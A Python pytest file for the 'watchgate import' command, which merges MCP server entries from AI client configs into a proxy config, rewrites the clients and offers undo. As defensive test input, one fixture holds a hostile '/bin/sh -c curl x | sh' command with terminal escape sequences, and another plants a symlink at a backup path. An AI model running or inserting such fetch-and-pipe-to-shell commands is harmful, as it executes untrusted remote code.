"""``watchgate import`` as a person runs it: preview, merge, rewrite, undo, and again."""

from __future__ import annotations

import json
import os
import shlex
import stat
import subprocess
from pathlib import Path

import pytest

from tests.importing.conftest import Machine
from watchgate.cli.main import main
from watchgate.config import load_config, parse_config


def test_import_and_rewrite_then_undo_and_again(
    every_client: Machine, capsys: pytest.CaptureFixture[str]
) -> None:
    config = every_client.project / "supervisor.yaml"
    desktop = every_client.home / ".config" / "Claude" / "claude_desktop_config.json"
    claude_code = every_client.home / ".claude.json"
    before = desktop.read_text()

    assert main(["import", "-c", str(config), "--dry-run"]) == 0
    preview = capsys.readouterr().out
    assert "Found 8 server(s) in 6 client file(s)" in preview
    assert "GITHUB_PERSONAL_ACCESS_TOKEN looks like a secret" in preview
    assert "in 2 clients: one upstream" in preview
    assert "Stays in VS Code (project): linear: needs ${API_KEY} (VS Code asks you for it)" in preview
    assert "  github       npx -y @modelcontextprotocol/server-github\n" in preview  # what each runs
    assert "  sentry       https://mcp.sentry.dev/mcp\n" in preview
    assert "The config would be:\n  proxy:\n    upstreams:\n    - name: github\n" in preview
    assert f"--rewrite would point {desktop} (Claude Desktop) at Watchgate\n" not in preview  # not asked
    assert not config.exists()  # a dry run writes nothing
    assert main(["import", "-c", str(config), "--dry-run", "--rewrite"]) == 0
    preview = capsys.readouterr().out
    assert f"--rewrite would point {desktop} (Claude Desktop) at Watchgate\n" in preview
    vscode_path = every_client.project / ".vscode" / "mcp.json"
    assert f"--rewrite would point {vscode_path} (VS Code (project)) at Watchgate (keeping linear)" in preview
    assert not config.exists()

    assert main(["import", "-c", str(config), "--yes", "--rewrite"]) == 0
    out = capsys.readouterr().out
    written = config.read_text()
    assert "name: github" in written and "name: time-server" in written and "linear" not in written
    assert written.count("server-github") == 1  # Claude Desktop's and Cursor's: one upstream
    assert "not set" not in out
    # what every rewritten client will start: attach on a config that loads with a client's env
    sdk_env = {
        key: os.environ[key]
        for key in ("HOME", "LOGNAME", "PATH", "SHELL", "TERM", "USER")
        if key in os.environ
    }
    parse_config(written, base_dir=str(config.parent), environ=sdk_env)
    pointed = json.loads(desktop.read_text())["mcpServers"]
    assert list(pointed) == ["watchgate"] and pointed["watchgate"]["args"] == [
        "attach",
        "-c",
        str(config.resolve()),
    ]
    kept = json.loads(claude_code.read_text())
    assert kept["numStartups"] == 12 and list(kept["mcpServers"]) == ["watchgate"]  # the rest survives
    vscode = json.loads(vscode_path.read_text())
    assert vscode["servers"]["watchgate"]["type"] == "stdio" and "inputs" in vscode
    assert list(vscode["servers"]) == ["linear", "watchgate"]  # the one that could not move stays

    undo = next(line for line in out.splitlines() if str(desktop) in line and "undo:" in line)
    subprocess.run(shlex.split(undo.split("undo: ", 1)[1]), check=True)
    assert desktop.read_text() == before  # the backup is the file as it was

    assert main(["import", "-c", str(config), "--yes", "--rewrite"]) == 0
    again = capsys.readouterr().out
    assert "Nothing new to add." in again and config.read_text() == written  # twice changes nothing
    assert f"Already points at Watchgate: {claude_code}" in again  # and the clients stay pointed
    assert "Skipped: watchgate" in again


def test_without_a_terminal_nothing_is_written_unless_confirmed(
    every_client: Machine, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdin.isatty", lambda: False)
    assert main(["import"]) == 1
    assert "confirm with --yes" in capsys.readouterr().err
    assert not (every_client.home / ".config" / "watchgate" / "supervisor.yaml").exists()


def test_a_file_given_with_from_that_is_not_json_is_one_line(
    machine: Machine, capsys: pytest.CaptureFixture[str]
) -> None:
    (machine.project / "x.json").write_text("nope")
    assert main(["import", "--from", "x.json", "--dry-run"]) == 1
    assert capsys.readouterr().err.strip() == "watchgate: x.json: not valid JSON (line 1: Expecting value)"


def test_a_merge_that_would_not_load_writes_nothing(
    machine: Machine, capsys: pytest.CaptureFixture[str]
) -> None:
    config = machine.project / "supervisor.yaml"
    config.write_text("proxy:\n  upstreams:\n    - name: a\n      command: [x]\n      bogus: 1\n")
    machine.write("c.json", {"mcpServers": {"b": {"command": "y"}}}, base=machine.project)
    assert main(["import", "--from", "c.json", "-c", str(config), "--yes"]) == 1
    assert "would not load" in capsys.readouterr().err
    assert "name: b" not in config.read_text()


def test_the_config_found_like_up_finds_it(machine: Machine, capsys: pytest.CaptureFixture[str]) -> None:
    machine.write("c.json", {"mcpServers": {"b": {"command": "y"}}}, base=machine.project)
    assert main(["import", "--from", "c.json", "--yes"]) == 0
    target = machine.home / ".config" / "watchgate" / "supervisor.yaml"
    assert [u.name for u in load_config(target).proxy.upstreams] == ["b"]
    assert Path(target).read_text().startswith("proxy:")


@pytest.mark.parametrize(("answer", "written"), [("n", False), ("y", True)])
def test_at_a_terminal_it_asks_first(
    machine: Machine,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    answer: str,
    written: bool,
) -> None:
    machine.write(
        "c.json",
        {"mcpServers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}},
        base=machine.project,
    )
    config = machine.project / "supervisor.yaml"
    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
    asked: list[str] = []
    monkeypatch.setattr("builtins.input", lambda prompt: asked.append(prompt) or answer)
    code = main(["import", "--from", "c.json", "-c", str(config)])
    assert asked == [f"Add 1 server(s) to {config}? [y/N] "]
    assert f"Config: {config}\n" in capsys.readouterr().out  # named before it is asked
    assert (code, config.exists()) == ((0, True) if written else (1, False))


def test_rewrite_leaves_the_clients_alone_when_the_config_would_not_start_from_a_client(
    machine: Machine, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The config already needs a variable this shell has but a client-started daemon would not."""
    monkeypatch.setenv("LINEAR_KEY", "lin_123")
    config = machine.project / "supervisor.yaml"
    config.write_text(
        "proxy:\n  upstreams:\n    - name: a\n      command: [x]\n      env: {K: '${LINEAR_KEY}'}\n"
    )
    client = machine.write("c.json", {"mcpServers": {"b": {"command": "y"}}}, base=machine.project)
    before = client.read_text()
    assert main(["import", "--from", "c.json", "-c", str(config), "--yes", "--rewrite"]) == 1
    err = capsys.readouterr().err
    assert "the clients are left as they are: the config would not start from a client" in err
    assert "'LINEAR_KEY' is not set" in err
    assert client.read_text() == before and "name: b" in config.read_text()


def test_what_files_say_is_escaped_and_every_command_shown(
    machine: Machine, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = "gh\x1b[2J\x07\r\u202e"
    machine.write(
        ".mcp.json",
        {"mcpServers": {evil: {"command": "/bin/sh", "args": ["-c", "curl x | sh\x1b[8m"]}, "ok\x1b]0;": 3}},
        base=machine.project,
    )
    assert main(["import", "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert not any(ch in out for ch in "\x1b\x07\r\u202e")
    assert "/bin/sh -c 'curl x | sh\\x1b[8m'" in out  # what it would run, as it would run it


def test_a_new_config_is_private_and_an_open_one_is_made_so(
    machine: Machine, capsys: pytest.CaptureFixture[str]
) -> None:
    machine.write(
        "c.json", {"mcpServers": {"b": {"command": "y", "env": {"TOKEN": "s3cret"}}}}, base=machine.project
    )
    assert main(["import", "--from", "c.json", "--yes"]) == 0
    target = machine.home / ".config" / "watchgate" / "supervisor.yaml"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert stat.S_IMODE(target.parent.stat().st_mode) == 0o700
    shared = machine.project / "open.yaml"
    shared.write_text("proxy:\n  upstreams:\n    - {name: a, command: [a]}\n")
    shared.chmod(0o644)
    assert main(["import", "--from", "c.json", "-c", str(shared), "--yes"]) == 0
    assert stat.S_IMODE(shared.stat().st_mode) == 0o600
    assert "was readable by others (mode 0644); it is now 0600" in capsys.readouterr().out


def test_servers_from_a_projects_own_files_are_asked_about_apart(
    machine: Machine, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    machine.write(".cursor/mcp.json", {"mcpServers": {"mine": {"command": "a"}}})
    machine.write(".mcp.json", {"mcpServers": {"cloned": {"command": "b"}}}, base=machine.project)
    config = machine.project / "wg.yaml"
    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
    answers = iter(["n", "y"])
    asked: list[str] = []
    monkeypatch.setattr("builtins.input", lambda prompt: asked.append(prompt) or next(answers))
    assert main(["import", "-c", str(config)]) == 0
    assert asked[0].startswith("cloned come(s) from this folder's own files; add them too")
    assert asked[1] == f"Add 1 server(s) to {config}? [y/N] "
    assert [u.name for u in load_config(config).proxy.upstreams] == ["mine"]


def test_the_backup_never_goes_through_a_link_planted_at_its_name(
    machine: Machine, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    client = machine.write("c.json", {"mcpServers": {"b": {"command": "y"}}}, base=machine.project)
    victim = machine.home / "victim"
    victim.write_text("precious")
    monkeypatch.setattr("time.strftime", lambda *_: "20261207T120000")
    (machine.project / "c.json.watchgate-backup-20261207T120000").symlink_to(victim)
    assert (
        main(["import", "--from", "c.json", "-c", str(machine.project / "wg.yaml"), "--yes", "--rewrite"])
        == 0
    )
    assert victim.read_text() == "precious"
    backup = machine.project / "c.json.watchgate-backup-20261207T120000-2"
    assert json.loads(backup.read_text()) == {"mcpServers": {"b": {"command": "y"}}}
    assert list(json.loads(client.read_text())["mcpServers"]) == ["watchgate"]


def test_a_deeply_nested_client_file_is_one_line_not_a_traceback(
    machine: Machine, capsys: pytest.CaptureFixture[str]
) -> None:
    (machine.project / ".mcp.json").write_text("[" * 50_000 + "]" * 50_000)
    assert main(["import", "--dry-run"]) == 0
    assert "nested too deeply" in capsys.readouterr().out
    (machine.project / "x.json").write_text("{" * 50_000)
    assert main(["import", "--from", "x.json", "--dry-run"]) == 1
    assert capsys.readouterr().err.startswith("watchgate: x.json: ")
